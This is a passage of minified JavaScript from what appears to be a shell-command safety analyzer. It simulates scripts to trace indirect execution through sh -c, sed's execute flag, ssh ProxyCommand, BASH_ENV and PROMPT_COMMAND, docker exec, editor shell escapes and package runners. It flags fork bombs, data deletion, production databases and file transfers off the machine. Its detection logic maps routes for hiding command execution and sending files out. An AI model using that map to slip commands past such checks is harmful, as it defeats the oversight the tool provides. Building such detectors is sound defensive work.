r.operands==="no code")return[];let n=r.operands===void 0&&/[(;`\n]/.test(e.text)?[e]:[];if(!/^-./.test(t[t.indexOf(e)-1]?.text??""))return n;let{options:o,operands:i}=j(
s,r),a=W(o,...r.code??[]);return[...n,...a,...r.operands==="code"?i.slice(0,1):[]]}var b$=t=>t.replace(/^\s*!(.+)$/gm,(e,s)=>`os.system(${JSON.stringify(s)})`);
function Em(t){let e=t.flatMap(s=>[...s.slice(0,1e4).matchAll(hr.generated_statement)].map(([,r])=>`${r}${"\uFFFC"};
`));return e.length>0?e.join(""):void 0}function y$(t,e){let[s,...r]=e;return t==="deno"&&s?.text==="eval"?[R("-e"),...r]:(t==="deno"||t==="bun")&&s?.text==="ru\
n"?r:e}function fs(t,e,s,r=Go){let{scope:n,program:o,interpreter:i}=s,{budget:a,files:l,readCode:c}=i;Le(e)&&a.fail("too-much",`${o} runs code that cannot be re\
ad to its end`);let d="";if(!c)return d;let u=t==="sql"&&/\\gexec\b/.test(e)?Em([e]):void 0;return u&&fs("sql",u,s,r),a.descend(()=>{a.spend(e.length>>8);let{invocations:p,
problem:f}=c(t,t==="sql"?w$(e,s):e,{readCommand:(m,h)=>k$(m,s,h),onWrite:(m,h)=>l.write(m,h,n.folder),input:r,onPrint:m=>{d=Vt(d,m)}});f&&(t!=="other"||hr.deleting_call.
test(e))&&a.fail(f.kind,f.detail);for(let m of p)i.record(x$(m,s))},void 0),d}function w$(t,{program:e,args:s}){let r=`${t} ${oe(s).text}`,n=hr.key_scripts.test(
r);return/^(?:redis|valkey|keydb)-cli$/.test(e)?n?"FLUSHDB":t.replaceAll(`
`,`;
`):(/^(?:mysql|mariadb)$/.test(e)?t.replace(/\\[Gg](?=\s|$)/g,";"):t).replace(/^\s*\.open\s+(\S+).*$/gm,"ATTACH '$1';").replace(/^\s*\.(?!shell|system)\w+.*$/gm,
"")}function k$(t,e,s){let{context:r}=e,n=e.interpreter.invocations.length,o={...r,wrappers:[],redirects:[],captured:!0,isPiped:!1},i=e.createChildScope();s!==void 0&&
(i.folder=s);let a=e.interpreter.runScript(t,i,o);return{invocations:e.interpreter.invocations.splice(n),output:a}}function v$({program:t,args:e},s){let[r,...n]=e,
o=[...s.args,...Object.values(s.environment)];return!(t==="sql"&&/^(?:delete|update)-some$/.test(r?.text??""))||!o.some(({text:a})=>hr.production_name.test(a))?
e:[R(r.text.replace("some","production")),...n]}function x$(t,{scope:e,program:s,args:r,context:n}){let o={program:s,args:r,environment:{...e.exported(),...n.environment}};
return{...t,args:v$(t,o),wrappers:[...n.wrappers,...t.wrappers],redirects:[...n.redirects,...t.redirects],..._e({client:t.client??(t.program==="sql"?o:void 0),input:t.
input??n.input,needs:t.needs??n.needs,folder:t.folder??(e.folder===void 0?void 0:R(e.folder))})}}function Am(t){let[e,s]=$$(t),r=S.consoles.get(e),[n,...o]=s.slice(
s.findIndex(({text:d})=>!d.startsWith("-")));if(!r||!n||!r.after.includes(n.text))return;let{options:i,operands:a}=j(o,{...r,permuted:!0}),l=W(i,...r.code??[]);
r.operands==="code"&&l.length===0&&l.push(...a.slice(0,1).filter(({text:d})=>d!=="-"));let c=l.map(({text:d})=>d);Cm(r.language,c,t.wrap(e),l.length===0)}function $$({
program:t,args:e}){let s=Ai(t)?e.findIndex(({text:n})=>!n.startsWith("-")):-1;if(s===-1)return[t,e];let{text:r}=e[s];return[r.slice(r.lastIndexOf("/")+1),e.slice(
s+1)]}var{forms:Pi}=S,_$=1e4;function S$(t){if(t.length>_$)return;let e=[];for(let s=0;s<t.length;s=Pi.sed_command.lastIndex){Pi.sed_command.lastIndex=s;let r=Pi.sed_command.
exec(t)?.groups;if(!r)return;r.between===void 0&&e.push(r)}return e}var C$=2,E$=3e5,A$=128,T$=8;function P$(t,e,s,r){let{pattern:n="",replacement:o="",flags:i="",
delimiter:a=""}=e;if(t.includes("\uFFFC"))return Te(t);let l=h=>h.replaceAll(`\\${a}`,()=>a),c=n.match(/[*+{]/g)?.length??0,d=/^[gpeI]*$/i.test(i)?R$(l(n),i,s):
void 0,u=t.replace(/\n$/,"").split(`
`),p=u.reduce((h,g)=>h+g.length**(c+1),0),f=c<=C$&&p<=E$&&r.spend(Math.ceil(p/A$));if(!d||!f||/^(?:[^\\]|\\[^a-zA-Z])*\\[a-zA-Z]/.test(o))return Te(t);let m=l(o).
replace(/\\([\s\S])|[$&]/g,(h,g)=>/\d/.test(g)?`$${g}`:g??(h==="&"?"$&":"$$"));return u.map(h=>h.replace(d,m)).join(`
`)+(t.endsWith(`
`)?`
`:"")}function R$(t,e,s){let r=t.replace(/\[:(\w+):\]/g,(o,i)=>S.characterClasses[i]??o);if(/\\[\w<>'\x60]|\[[:.=]/.test(r))return;let n=r.replace(/\\([\s\S])|\[(\^?)(\]?[^\]]*)\]|(?<=^\^?)\*|(?<!^)\^|\$(?!$)|[(){}|+?\]]/g,
(o,i,a,l)=>{if(l!==void 0)return`[${a}${l.replace(/[\\\]](?!s)/g,"\\$&")}]`;let c=/[(){}|+?]/.test(i??o);return c&&i===void 0===s?i??o:i===void 0||c?`\\${i??o}`:
o});if(!/[^\\]\)[*+?{]/.test(n))return Ss(n,`${e.includes("g")?"g":""}${/i/i.test(e)?"i":""}`)}function Tm(t){let{options:e,operands:s}=j(t.args,S.getopt.sed),r=W(
e,"e","expression").map(({text:m})=>m),n=W(e,"f","file").map(m=>t.readFiles([m]));r.length===0&&n.length===0&&r.push(s.shift()?.text??"");let o=[...r,...n].join(
`
`),i=S$(o);t.interpreter.budget.spend(T$*(i?.length??0));let a=(i??[]).flatMap(m=>{let h=Pm(m),g=m.input===void 0?"write":"read";return h?[{kind:g,path:R(h)}]:[]});
t.redirect(a).record();let l=z(e,"i","in-place"),[c]=s,d=l&&s.length===1?t.findWritten(c.text)?.text:void 0,u=l?d??"\uFFFC":t.readFiles(s);if(i===void 0)return o.
includes("\uFFFC")||t.interpreter.budget.fail("unparsable","its sed script cannot be parsed"),Te(u);let p=z(e,"E","r","regexp-extended"),f=u;for(let m of i)m.pattern!==
void 0&&(f=P$(f,m,p,t.interpreter.budget)),f=I$(m,f,s,t);return d!==void 0&&!f.includes("\uFFFC")&&t.write(c.text,f),l?"":Vt(f,"")}function Pm({target:t,output:e,
input:s}){let r=(t??e??s)?.trim();return Pi.output_device.test(r??"")?void 0:r}function I$(t,e,s,r){let n=t.command?.trim();if(t.other!==void 0)return Te(e);if(n===
"")return fc(e,s,r);if(n!==void 0&&r.runShell(n),n!==void 0||t.input!==void 0)return Nt(e);if(t.flags?.includes("e"))return e.includes("\uFFFC")?(r.runShell(t.replacement.
replace(/\\\d|&/g,"\uFFFC").replace(/\\([\s\S])/g,"$1")),s.length>0?"\uFFFC":fc(e,[],r)):fc(e,[],r);let o=Pm(t);return o!==void 0&&r.write(o,e),e}function fc(t,e,s){
let r=s.with({context:rt(s.context,t,s.context.input)});if(t==="\uFFFC")r.runWords([R("sh"),...e]);else for(let n of t.split(`
`))s.consumeInput().runShell(n);return"\uFFFC"}var{forms:Im}=S;function qm(t){let{program:e,scope:s,context:r}=t,n=S.codeVariables.get(e)?.variables??[],o=Im.shell_program.test(e);if(n.length===0&&!o||r.wrappers.
includes(e))return;let i={...s.exported(),...r.environment},{input:a,stdin:l,...c}=r,d=t.with({context:c});for(let u of n)i[u]&&d.runShell(i[u].text.replace(/^\|{0,2}-?\s*/,
""));o&&q$(d,i)}function q$(t,e){let s=t.args.some(({text:o})=>/^-\w*i/.test(o)),r=/^(?:r?ba|z)sh$/.test(t.program)&&!s?"BASH_ENV":"ENV",n=e[r];n&&(r==="BASH_EN\
V"||s)&&t.runWords([R("."),n],t.createChildScope()),s&&e.PROMPT_COMMAND&&t.runShell(e.PROMPT_COMMAND.text);for(let o of[r,"PS4",...s?["PS1"]:[]]){let i=e[o]?.text??
"";/\$\(|`/.test(i)&&t.runShell(`: "${i}"`)}}function Dn(t,e=t.scope){let{context:s}=t,r=s.stdin?.readRest();return r===void 0?t.record():(!r.includes("\uFFFC")&&
!O$(s)?t.with({context:{...s,input:{kind:"text",text:r}}}).record():(s.input?.kind==="text"?t.feedFromSubstitution(r):t).record(),t.consumeInput().runScript(r,e))}
var O$=t=>{let e=ce(t).at(-1)?.path;return e!==void 0&&/^(?:python|javascript|perl|ruby|php|awk)$/.test(Ai(e)??"")};function Rm(t,e){let s=e.findWritten(t.text);
return e.context.isConcurrent&&t.text===e.scope.arguments[0]?.text&&e.interpreter.reportForkBomb(e),e.withoutInput().feedFrom(s?.from).record(),s===void 0?"\uFFFC":
Om(t,s.text,e)}function Om(t,e,s){let[,r]=/^#!\s*(\S.*)/.exec(e)??[],n=r&&Ai(r.split(/\s+/).at(r.includes("env ")?-1:0)),o=`file ${t.text}
${e}`;if(s.interpreter.activeScripts.includes(o))return s.context.isConcurrent&&s.interpreter.reportForkBomb(s),"\uFFFC";s.interpreter.activeScripts.push(o);let i="\
\uFFFC",a=s.createChildScope([t,...s.args.slice(1)]);return n&&n!=="shell"?fs(n,e,s.wrap()):i=s.with({context:{...s.context,isConcurrent:!1}}).runScript(e,a),s.
interpreter.activeScripts.pop(),i}function Nm(t){let[e]=t.words,s=e.text.includes("/")?t.interpreter.files.written(e.text,t.scope.folder):void 0;if(s!==void 0)return t.
feedFrom(s.from).record(),Om(e,s.text,t.with({args:t.words}))}var Lm={"sh bash dash zsh ksh mksh ash rbash fish csh tcsh yash":t=>{let{args:e}=t,s=S.getopt[t.program===
"fish"?"fish":"shell"],r=e.map(u=>/^\+[a-zA-Z]/.test(u.text)?{...u,text:`-${u.text.slice(1)}`}:u),{options:n,operands:o}=j(r,s);for(let{name:u,value:p}of n)p&&(u===
"rcfile"||u==="init-file")&&Rm(p,t.with({args:[p]}));let i=W(n,"c","command","C","init-command").map(({text:u})=>u),[a,...l]=i.length>0?[R(i.join(`
`)),...o]:o;if(z(n,"n","no-execute")&&!z(n,"i")&&!e.some(({text:u})=>u.startsWith("+")))return t.withoutInput().with({args:[]}).record();if(z(n,"c","command")||
i.length>0){if(a===void 0)return t.record();let u=l[0]??R(t.program);return t.withoutInput().feedFromSubstitution(a.text).with({args:e.filter(f=>f!==a||!Ie(f))}).
record(),t.runShell(a.text,[u,...l.slice(1)])}return a===void 0||z(n,"s")||Im.standard_input.test(a.text)?Dn(t,t.createChildScope([R(t.program),...o])):Rm(a,t.with(
{args:o}))},"source .":t=>{let[e,...s]=t.args;if(e===void 0)return t.record();if(e.text==="/dev/stdin"||e.text==="-")return Dn(t);let r=t.findWritten(e.text);return t.
feedFrom(r?.from).record(),t.scope.isFollowed=!1,r===void 0?"\uFFFC":(s.length>0&&(t.scope.arguments=[e,...s]),t.runScript(r.text))}};var{forms:ms}=S,mc=65536,Dm=20;function N$(t){let{code:e=[],operands:s,does:r,ignores:n=[],...o}=S.smallLanguages.get(t.program),i=S.dialects.get(o.dialect??""),
a=t.args.map(y=>e.includes("encoded")&&/^(?:--?|\/)e(?:c|n\w*)?$/i.test(y.text)?R("--encoded"):/^-(?:eval|batch|load|[Cc]ommand)$/.test(y.text)?R(`-${y.text}`):
y),{options:l,operands:c}=j(a,{...o,permuted:!0}),d=t.record(),u=W(l,"encoded"),p=W(l,...e).flatMap(y=>u.includes(y)?Buffer.from(y.text,"base64").toString("utf1\
6le"):y.text==="-"?[]:y.text),f=c.slice(0,Dm);p.push(...f.flatMap(({text:y})=>t.interpreter.files.list(y,t.scope.folder)));let m=c.filter(({text:y})=>!ms.input_name.
test(y));s==="code"&&p.length===u.length&&m.length>0&&p.push(oe(m).text),p.length===0&&(c.length===0||c.some(({text:y})=>ms.input_name.test(y)))&&p.push(t.context.
stdin?.readRest()??"");let h=y=>{let x=(C,_)=>_??" ",$=n.reduce((C,_)=>C.replace(new RegExp(_,"gi"),x),y);return ms.beside_ignored.test($)?y:$},g=p.map(L$).map(
h);for(let y of r?g.map(D$):g){i&&fs("other",j$(y.slice(0,mc),i),t.wrap());let x=i&&!ms.indirect_runs.test(y)?"":y.slice(0,mc);for(let $ of new Set(jm(x,ms.command_texts).
slice(0,Dm)))t.runShell($);Ri(y,r,t,$=>$.split(",").map(C=>Hr(R(C))))}return d}var L$=t=>t.replace(/"(?:[^"\\\n]|\\.){0,500}"/g,e=>e.replace(/\$(?:HOME\b|env:(?:HOME|USERPROFILE)\b|(?:::)?env\(HOME\))/g,
"~")).replace(ms.home_lookup,'"~"').replace(/\$\("~"\)/g,"~");function D$(t){let e=new Map,s=(n,o="")=>{let i=e.get(n);e.set(n,i===void 0?o:`${i},${o}`)};for(let[
,n,o]of t.matchAll(ms.constant_list))s(n.toLowerCase(),o);for(let[,n,o]of t.matchAll(ms.loop_over_variable)){let i=e.get(o.toLowerCase());i!==void 0&&s(n.toLowerCase(),
i)}let r=mc;return t.replace(ms.variable_use,(n,o)=>{let i=e.get(o.toLowerCase());return r-=i?.length??0,i===void 0||r<0?n:i})}function j$(t,{comment:e,texts:s,
inserts:r="(?!)",rewrites:n}){let o=[],i=new RegExp(`${e}|${s}`,"gm"),a=d=>d.replace(i,(...u)=>{let m=(u.slice(1,-2).find(h=>h!==void 0)?.split(new RegExp(r))??
[]).map((h,g)=>g%2?`(${a(h)})`:`"${o.push(h)-1}"`);return m.length>1?`(${m.join(" + ")})`:m[0]??" "}),l=a(t.replace(/\\\n\s*/g," "));for(let[d,u]of n)l=l.replace(
new RegExp(d,"gm"),u);let c=(d="")=>d.replace(/\\[\s\S]|["\\]/g,u=>u.length>1?u:`\\${u}`);return l.replace(/['`]/g," ").replace(/"(\d+)"/g,(d,u)=>`"${c(o[u])}"`)}
function Ri(t,e,s,r=n=>[n]){for(let[n,o]of Object.entries(e??{}))for(let i of o.flatMap(a=>jm(t,a)))for(let a of n==="$"?[i]:r(i))s.runShell(n.split("$").join(a))}
var jm=(t,e)=>[...t.matchAll(new RegExp(e,"gi"))].map(s=>s.at(-1)??"\uFFFC"),Wm={[[...S.smallLanguages.keys()].join(" ")]:N$};var{getopt:mt,forms:Je}=S,Mm=16384,W$=t=>{let e=t.replaceAll("+"," "),s=jr.url(e);return s==="\uFFFC"?e:s},M$=100,F$=({code:t=[],pattern:e,operands:s,unless:r=[],
does:n,...o})=>i=>{let a=i.record(),{options:l,operands:c}=j(i.args,{permuted:!0,...o});if(z(l,...r))return a;let d=n?c.flatMap(({text:u})=>i.findWritten(u)?.text??
[]):[];Ri([...d,n&&i.context.stdin?.readRest()].join(`
`),n,i);for(let{text:u}of[...W(l,...t),...s==="code"?c:[]]){let f=[...e===void 0?[]:u.matchAll(new RegExp(e,"g"))].map(m=>m.at(-1).replace(/\\(["\\])/g,"$1"));for(let m of e===
void 0?[u]:f)i.runShell(m)}return a},hc=`new-container
`;function U$(t,e){let{operands:s}=j(t.args.slice(1),mt.container),r=!t.args.some(({text:n})=>Je.container_network.test(n));return Fm(t,e)&&r&&Je.database_image.
test(s[0]?.text??"")}function V$(t,e){let{interpreter:s,context:r,args:n,program:o}=t,i=j(e,mt.container).operands[0]?.text??"";if(n[0]?.text!=="exec"||n.some(({
text:u})=>Je.container_network.test(u)))return;let a=s.invocations.filter(u=>Je.container_engine.test(u.program)),l=a.filter(u=>/^(?:run|create)$/.test(u.args[0]?.
text??""));if(`${i}
`===hc)return l.length===1?l[0]:void 0;let c=l.filter(u=>{let p=` ${u.args.map(({text:m})=>m).join(" ")} `,f=p.includes(` --name ${i} `)||p.includes(` --name=${i}\
 `);return u.program===o&&f&&u.wrappers.length===r.wrappers.length}),d=a.some(u=>u.args.some(({text:p})=>p==="rename"));return i.includes(S.uniqueMark)&&!d?c.length===
1?c[0]:void 0:c.find(u=>r.needs?.includes(u))}var H$=(t,e)=>Je.new_folder.test(t.split(":")[0])&&!e.some(({program:s})=>Je.brings_files.test(s))||Je.plain_volume.
test(t)&&t.split(":")[0].includes(S.uniqueMark)&&!e.some(s=>Je.bound_volume.test(oe(s.args).text));function Fm(t,e){let{program:s,args:r,environment:n}=t,[o,...i]=r[0]?.
text==="container"?r.slice(1):r;if(!Je.container_engine.test(s)||o?.text!=="run"||["DOCKER_HOST","CONTAINER_HOST","DOCKER_CONTEXT"].some(l=>l in n))return!1;let{
options:a}=j(i,mt.container);return a.every(({name:l,value:c})=>/^(?:v|volume)$/.test(l)?/:ro(?:,|$)/.test(c?.text??"")||H$(c?.text??"",e):S.programWords.closed_options.
has(l))}var Um={"vim vi nvim view ex ed less more":t=>{t.record();let{options:e,operands:s}=j(t.args,mt.editor),r=W(e,"c","cmd").map(({text:l})=>l),n=s.flatMap(
({text:l})=>l.startsWith("+")?[l.slice(1)]:[]),o=/^(ex|ed|vi|vim|nvim)$/.test(t.program)?t.context.stdin?.readRest().split(`
`)??[]:[],i=[...r,...n,...o],a=s.map(({text:l})=>l.replace(/^\+.*/,""));Ri([`args ${a.join(" ")}`,...i].join(`
`),S.codeOptions.get("editor")?.does,t);for(let l of i){let c=Je.editor_shell.exec(l),[,d]=/^\s*:?lua\s+(.*)/s.exec(l)??[];d!==void 0&&t.runCommandWords(xe(["lu\
a","-e",d])),c&&t.runShell(c[1]??"sh")}return"\uFFFC"},"sed gsed":Tm,ssh:t=>{let{options:e,operands:s}=j(t.args,mt.ssh),[r,...n]=s,{options:o,operands:i}=j(n,mt.
ssh),a=i.length===0&&r!==void 0&&t.context.stdin!==void 0;a||t.with({args:t.args.filter(l=>!i.includes(l))}).record();for(let{text:l}of W([...e,...o],"o")){let[
,c]=/^(?:ProxyCommand|LocalCommand|KnownHostsCommand)[= ]\s*(.*)/i.exec(l)??[];c!==void 0&&t.runShell(c)}return i.length>0?t.runShell(oe(i).text):a?Dn(t.with({scope:t.
createChildScope()})):"\uFFFC"},"sftp ftp lftp":t=>{let{options:e,operands:s}=j(t.args,S.getopt.transfer),r=t.context.stdin?.readRest()??"",[n]=W(e,"b"),o=n&&t.
interpreter.files.written(n.text,t.scope.folder)?.text,i=t.record(),a=[r,o??"",...W(e,"e","c").map(d=>d.text)].join(`
`).split(/[\n;]/),l=a.flatMap(d=>/^\s*open\s+(?:-\S+\s+)*(\S+)/.exec(d)?.[1]??[]),c=(s[0]?.text??l[0]??"").replace(/^[a-z]+:\/\//,"").replace(/[:/].*$/,"");for(let d of a.
slice(0,M$)){let[,u]=Je.sending_command.exec(d)??[],p=u?.split(/\s+/).filter(m=>m!==""&&!m.startsWith("-"))??[],f=["scp","-r",...p,`${c||"unknown"}:`];p.length>
0&&t.runCommandWords(f.map(m=>({text:m,glob:/[*?[]/.test(m)})))}return i},"docker docker-compose podman nerdctl kubectl oc":t=>{let e=t.record(),{operands:s}=j(
t.args,mt.container);(s[0]?.text==="compose"||s[0]?.text==="container")&&({operands:s}=j(s.slice(1),mt.container));let[r,...n]=s,o=Je.container_engine.test(t.program);
if(!/^(exec|run|debug)$/.test(r?.text??""))return e;let i=n.findIndex(({text:y})=>y==="--"),{options:a,operands:l}=j(n,mt.container),c=[...W(a,"entrypoint"),...l.
slice(1)],d=i===-1?c:n.slice(i+1),u=o&&r?.text==="run"&&z(a,"d","detach");if(d.length===0)return u?hc:"\uFFFC";let p=V$(t,n),{invocations:f}=t.interpreter,m=p&&
U$(p,f)?t.wrap().wrap(Tr):t.wrap(),{context:h}=Fm(p??t.createInvocation(),f)?m.wrap(Ar):m,g=t.interpreter.runWords(d,t.scope,h);return u?hc:g},"curl wget wget2 \
aria2c axel":t=>{let e=t.record();for(let{text:c}of hn(t))t.write(c,"\uFFFC",t.interpreter.invocations.slice(-1));let{options:s,operands:r}=j(t.args,S.getopt.request),
n=W(s,...S.programWords.body_options),o=[...W(s,"url"),...r],l=(o.length>0&&o.every(({text:c})=>Je.own_server.test(c)&&!Je.sql_path.test(c))&&!s.some(({name:c})=>/^(?:x|proxy)$/.
test(c))?[]:[...n,...o]).flatMap(({text:c})=>[...c.slice(0,Mm).matchAll(Je.request_fields)].map(([,d,u])=>d===void 0?u.replace(/\\n/g,`
`).replace(/\\(.)/g,"$1"):W$(d)));for(let c of[...n.map(({text:d})=>d.slice(0,Mm)),...l])Je.request_statement.test(c)&&fs("sql",c,t);return e},"at batch":t=>Dn(
t,t.createChildScope()),"cp mv install ln":t=>{let e=t.record(),{options:s,operands:r}=j(t.args,mt.copy),[n]=W(s,"t","target-directory"),o=n??r.at(-1);for(let{text:i}of n?
r:r.slice(0,-1)){let a=/^\/(usr\/(local\/)?)?s?bin\/[\w.-]+$/.test(i),l=t.findWritten(i)??(a?{text:`${i} "$@"`,from:[]}:void 0);l===void 0||!o||(t.write(o.text,
l.text,l.from),t.write(`${o.text}/${i.slice(i.lastIndexOf("/")+1)}`,l.text,l.from))}return e},tmux:t=>{let e=t.record(),[s,...r]=j(t.args,mt.tmux).operands,{operands:n}=j(
r,mt["tmux-command"]);return/^(neww?|(new|split)-\w+|splitw|run|run-shell|respawn-pane|send|send-keys)$/.test(s?.text??"")&&t.runShell(oe(n.filter(({text:o})=>!/^(Enter|C-m|KPEnter)$/.
test(o))).text),e},screen:t=>{let e=t.record(),{options:s,operands:r}=j(t.args,mt.screen);return t.runShell(z(s,"X")?oe(r).text:Br(r)),e},cargo:t=>(t.args[0]?.text.
startsWith("+")?t.with({args:t.args.slice(1)}):t).record(),...Object.fromEntries([...S.codeOptions].map(([t,e])=>[t,F$(e)])),[[...S.runners.keys()].join(" ")]:t=>{
let{after:e=[],code:s=[],skip:r=0,...n}=S.runners.get(t.program),{operands:o}=j(t.args,n);/^(npm|pnpm|yarn|bun)$/.test(t.program)&&xm(t);let[i]=o;if(/^(?:pnpm|yarn)$/.
test(t.program)&&o.length>1&&!S.programWords.package_verbs.has(i.text))return t.record(),t.runWords(o);let l=/^(?:workspaces?|foreach|recursive|multi|m)$/.test(
o[0]?.text??"")?o.slice(0,10).findIndex(({text:m})=>e.includes(m)):0;if(e.length>0&&!e.includes(o[l]?.text??""))return Ti(t)??t.record();let c=t.record(),{options:d,
operands:u}=j(o.slice(e.length>0?l+1:0),n);for(let{text:m}of W(d,...s))t.runShell(m);let p=u.findIndex(({text:m})=>m==="--"),f=p===-1?u.slice(r):u.slice(p+1);return f.
length>0?t.runCommandWords(f):c}};function Ii(t,e=!1){if(!(t.length>200||(t.match(/\*/g)?.length??0)>2))return t.replace(/\\(.)|\[(!|\^)?(\]?[^\]]*)\]|\*+|[\s\S]/g,(s,r,n,o)=>r!==void 0?Vm(r):o!==
void 0?`[${n?"^":""}${o.replace(/[\\\]^]/g,"\\$&")}]`:s[0]==="*"?e?"[^]*?":"[^]*":s==="?"?"[^]":Vm(s))}var Vm=t=>t.replace(/[\\^$.*+?()[\]{}|/]/g,"\\$&");var B$=8;function z$(t){return t.slice(0,B$).findIndex(({text:e},s)=>{let r=t[s+1]?.text??"";return e==="git"&&t.length>s+2?!0:S.programWords.risky.has(e.slice(
e.lastIndexOf("/")+1))&&/^[-/~.*]|=|\//.test(r)})}function G$(t){let e=t.includes("\uFFFC")?void 0:Ii(t),s=e===void 0?void 0:Ss(`^(?:${e})$`);return s?[...S.programWords.
risky].filter(r=>s.test(r)).slice(0,3):[]}function Bm(t){let e=S.wrappers.get(t.program);return e?Hm(t,e):/^ld(-linux.*)?\.so/.test(t.program)?Hm(t,{long:["libr\
ary-path","preload","argv0"]}):Y$(t)}function Hm(t,e){let{skip:s=0}=e,{options:r,operands:n}=j(t.args,e),o=j(n.slice(s),e),i=o.options.length>0&&s>0?o.operands:
n.slice(s);s>0&&r.push(...o.options);let[a]=W(r,...e.folder??[]),l=a?t.scope.copy():t.scope;a&&(l.folder=a.text);let c=W(r,...e.code??[]),d=t.interpreter.invocations.
length;e.own&&t.record();let u="",p={...t.context.environment};e.assigns&&K$(i,p);let f=t.with({scope:l,context:{...t.context,environment:p}}),m=(y,x)=>f.runShell(
y,[R("sh"),...x]),h=oe(i).text;for(let{text:y}of c)u=m(e.assigns?`${y} ${h}`:y,i);let g=e.joined&&!z(r,"x","exec")||i.length===1&&wi(i[0]);return c.length===0&&
i.length>0&&(u=g?m(h,[]):f.runWords(i)),t.interpreter.invocations.length===d?t.record():u}function K$(t,e){for(;;){let[,s,r]=/^([A-Za-z_]\w*)=([\s\S]*)$/.exec(t[0]?.
text??"")??[];if(s===void 0)return;e[s]=R(r,t.shift().glob)}}function Y$(t){let{program:e,words:s,args:r}=t,n=s[0].glob?G$(e):[e.replaceAll("\uFFFC","")];for(let i of n)
i!==""&&i!==e&&t.runWords([R(i),...r]);let o=S.programWords.non_runners.has(e)?-1:z$(r);o!==-1&&t.runWords(r.slice(o))}function jn(t,e){switch(t.type){case"Script":case"CompoundList":case"AndOr":for(let s of t.commands)e(s);return;case"Statement":e(t.command);return;case"Command":
for(let s of t.prefix)e(s);t.name&&e(t.name);for(let s of t.suffix)e(s);return;case"Pipeline":for(let s of t.prefixes)e(s);for(let s of t.commands)e(s);return;case"\
Redirected":e(t.command);for(let s of t.redirects)e(s);return;case"If":e(t.clause),e(t.then);for(let s of t.elif)e(s);t.else&&e(t.else);return;case"Elif":e(t.clause),
e(t.then);return;case"For":case"Select":if(e(t.name),t.wordlist)for(let s of t.wordlist)e(s);e(t.body);return;case"While":e(t.clause),e(t.body);return;case"Func\
tion":case"Coproc":t.name&&e(t.name),e(t.body);return;case"Subshell":case"BraceGroup":e(t.body);return;case"Case":e(t.word);for(let s of t.items)e(s);return;case"\
CaseItem":for(let s of t.pattern)e(s);e(t.body);return;case"ArithmeticFor":{let s=t.initialize;s&&e(s);let r=t.test;r&&e(r);let n=t.update;n&&e(n),e(t.body);return}case"\
Word":case"Glob":case"ArithmeticWord":case"HereDocBody":case"BraceExpansion":case"ExtendedGlob":{let s=t.parts;if(s)for(let r of s)e(r);return}case"DoubleQuoted":case"\
LocaleString":for(let s of t.parts)e(s);return;case"ParameterExpansion":t.index&&e(t.index),t.operation&&e(t.operation);return;case"Default":case"Remove":case"T\
ransform":e(t.operand);return;case"CaseModification":t.operand&&e(t.operand);return;case"Replace":e(t.pattern),e(t.replacement);return;case"Slice":e(t.offset),t.
length&&e(t.length);return;case"Assignment":{let s=t.index;s&&e(s),e(t.value);return}case"ArrayValue":for(let s of t.elements)e(s);return;case"Redirect":case"He\
reString":t.descriptor&&e(t.descriptor),t.target&&e(t.target);return;case"HereDoc":t.descriptor&&e(t.descriptor),t.delimiter&&e(t.delimiter),e(t.body);return;case"\
CommandExpansion":case"ProcessSubstitution":case"ArithmeticCommandExpansion":{let s=t.script;s&&e(s);return}case"ArithmeticExpansion":case"ArithmeticCommand":case"\
ArithmeticGroup":case"TestCommand":case"TestGroup":{let s=t.expression;s&&e(s);return}case"ArithmeticBinary":case"TestBinary":e(t.left),e(t.right);return;case"A\
rithmeticUnary":case"TestUnary":e(t.operand);return;case"ArithmeticTernary":e(t.test),e(t.consequent),e(t.alternate);return;case"TestLogical":for(let s of t.operands)
e(s);return;case"TestNot":for(let s of t.negations)e(s);e(t.operand);return;case"Literal":case"SingleQuoted":case"AnsiCQuoted":case"SimpleExpansion":case"Names":case"\
Unknown":case"FileDescriptor":case"FileDescriptorVariable":case"HereDocDelimiter":case"Time":case"Negation":return;default:{let s=t;throw new TypeError(`Unexpec\
ted syntax node: ${s}`)}}}function zm(t){return t>=48&&t<=55}function Km(t){return t>=48&&t<=57||t>=65&&t<=70||t>=97&&t<=102}function Q$(t,e){try{return String.fromCodePoint(t)}catch{return e}}
var X$=new TextDecoder("utf-8",{ignoreBOM:!0});function Gm(t){return X$.decode(new Uint8Array(t))}function J$(t,e,s){if(t.charCodeAt(e)!==92||e+2>s)return;let r=t.
charCodeAt(e+1),n=e+2,o=n;if(r===120){for(;o<s&&o-n<2&&Km(t.charCodeAt(o));)o++;return o===n?void 0:{value:Number.parseInt(t.slice(n,o),16),end:o}}if(zm(r)){for(;o<
s&&o-n<2&&zm(t.charCodeAt(o));)o++;return{value:Number.parseInt(t.slice(e+1,o),8)&255,end:o}}}function Wn(t,e,s){let r=e,n="",o=[],i=-1;for(;r<s&&t.charCodeAt(r)!==
39;){let l=r,c=J$(t,r,s);if(c&&c.value>=128){o.push(c.value),r=c.end;continue}if(o.length>0&&(n+=Gm(o),o=[]),c){c.value===0&&i===-1&&(i=n.length),n+=String.fromCharCode(
c.value),r=c.end;continue}if(t.charCodeAt(r)!==92||r+1>=s){let u=r;for(;r<s;){let p=t.charCodeAt(r);if(p===39||p===92&&r+1<s)break;r++}n+=t.slice(u,r);continue}
r++;let d=t[r++];switch(d){case"a":n+="\x07";break;case"b":n+="\b";break;case"e":case"E":n+="\x1B";break;case"f":n+="\f";break;case"n":n+=`
`;break;case"r":n+="\r";break;case"t":n+="	";break;case"v":n+="\v";break;case"\\":n+="\\";break;case"'":n+="'";break;case'"':n+='"';break;case"?":n+="?";break;case`\

`:break;case"c":{let u=r<s?t.charCodeAt(r):39;if(u===39){n+=t.slice(l,r);break}if(r++,u===92){let f=r<s&&t.charCodeAt(r)===92;f&&r++,n+="",!f&&r<s&&(n+=t[r],r++);
break}let p=u===63?127:u&31;p===0&&u<128&&i===-1&&(i=n.length),n+=String.fromCharCode(p);break}case"u":case"U":{let u=r,p=d==="u"?4:8;for(;r<s&&r-u<p&&Km(t.charCodeAt(
r));)r++;if(r===u){n+=`\\${d}`;break}let f=t.slice(l,r),m=Number.parseInt(t.slice(u,r),16);m===0&&i===-1&&(i=n.length),n+=Q$(m,f);break}default:n+=`\\${d}`;break}}
o.length>0&&(n+=Gm(o)),i!==-1&&(n=n.slice(0,i));let a=r<s;return a&&r++,{value:n,end:r,closed:a}}var wt=class t{static _resolveScript;type;pos;end;text;#e;#t=void 0;constructor(e,s,r,n,o){this.type=e,this.pos=s,this.end=r,this.text=n,this.#e=o}get script(){
